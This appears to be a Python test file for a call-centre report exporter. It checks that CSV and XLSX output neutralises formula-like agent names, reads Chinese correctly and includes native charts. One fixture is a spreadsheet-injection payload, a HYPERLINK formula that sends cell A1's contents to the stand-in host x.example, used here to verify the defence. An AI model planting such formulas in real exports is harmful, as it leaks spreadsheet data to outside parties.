"""The CSV and XLSX writers: Excel must never run a name as a formula, and must read Chinese."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from zoneinfo import ZoneInfo

import openpyxl

from ivr.domain.agents import Agent
from ivr.domain.report_columns import AGENT_COLUMNS
from ivr.domain.reports import Month, MonthRows, monthly_report
from ivr.web.report_export import to_csv, to_xlsx

FORMULA = '=HYPERLINK("http://x.example/?"&A1,"点我")'


def _report():  # type: ignore[no-untyped-def]
    agents = [Agent("1001", FORMULA, "Local/1001@x/n", ()), Agent("1002", "-2+3", "L/2", ())]
    return monthly_report(
        Month(2026, 9),
        ZoneInfo("Asia/Shanghai"),
        MonthRows([], [], agents),
        datetime(2026, 11, 1, tzinfo=UTC),
    )


def test_csv_quotes_formulas_and_starts_with_a_bom() -> None:
    raw = to_csv(_report())
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    names = [r[1] for r in rows if r and r[0] in ("1001", "1002")]
    assert names == ["'" + FORMULA, "'-2+3"]
    assert ["满意率达标 (satisfaction_target_met)", ""] in rows  # no answers: empty, not 否


def test_xlsx_stores_formula_like_names_as_text() -> None:
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx(_report())))
    sheet = book["坐席"]
    assert sheet.cell(row=2, column=2).value == FORMULA
    assert sheet.cell(row=2, column=2).data_type == "s"
    assert sheet.cell(row=3, column=2).value == "-2+3"
    assert sheet.cell(row=3, column=2).data_type == "s"


def _month_report(month: int, agents: list[Agent]):  # type: ignore[no-untyped-def]
    return monthly_report(
        Month(2026, month),
        ZoneInfo("Asia/Shanghai"),
        MonthRows([], [], agents),
        datetime(2026, 11, 1, tzinfo=UTC),
    )


def test_xlsx_carries_native_charts_over_its_own_cells() -> None:
    agents = [Agent("1001", "李", "Local/1001@x/n", ()), Agent("1002", "王", "L/2", ())]
    trend = [_month_report(m, agents) for m in (7, 8, 9)]
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx(trend[-1], trend)))
    agents_sheet, trend_sheet = book["坐席"], book["趋势"]
    (bars,) = agents_sheet._charts
    assert bars.tagname == "barChart"
    refs = [s.val.numRef.f for s in bars.series]
    answered = 1 + [c[0] for c in AGENT_COLUMNS].index("calls_answered")
    within = 1 + [c[0] for c in AGENT_COLUMNS].index("answered_in_15s")
    col = openpyxl.utils.get_column_letter
    assert refs == [f"'坐席'!${col(answered)}$2:${col(answered)}$3",
                    f"'坐席'!${col(within)}$2:${col(within)}$3"]  # fmt: skip
    assert bars.series[0].cat.numRef.f == "'坐席'!$A$2:$A$3"  # the 工号 column
    (line,) = trend_sheet._charts
    assert line.tagname == "lineChart"
    assert [s.val.numRef.f for s in line.series] == [
        "'趋势'!$B$2:$B$4",
        "'趋势'!$C$2:$C$4",
        "'趋势'!$D$2:$D$4",
    ]
    assert [r[0].value for r in trend_sheet["A2:A4"]] == ["2026-07", "2026-08", "2026-09"]
    assert [r[0].value for r in trend_sheet["D2:D4"]] == [0.9, 0.9, 0.9]


def test_xlsx_without_agents_or_trend_still_opens_with_the_months_line() -> None:
    report = _month_report(9, [])
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx(report)))
    assert book["坐席"]._charts == []
    (line,) = book["趋势"]._charts
    assert line.series[0].val.numRef.f == "'趋势'!$B$2"
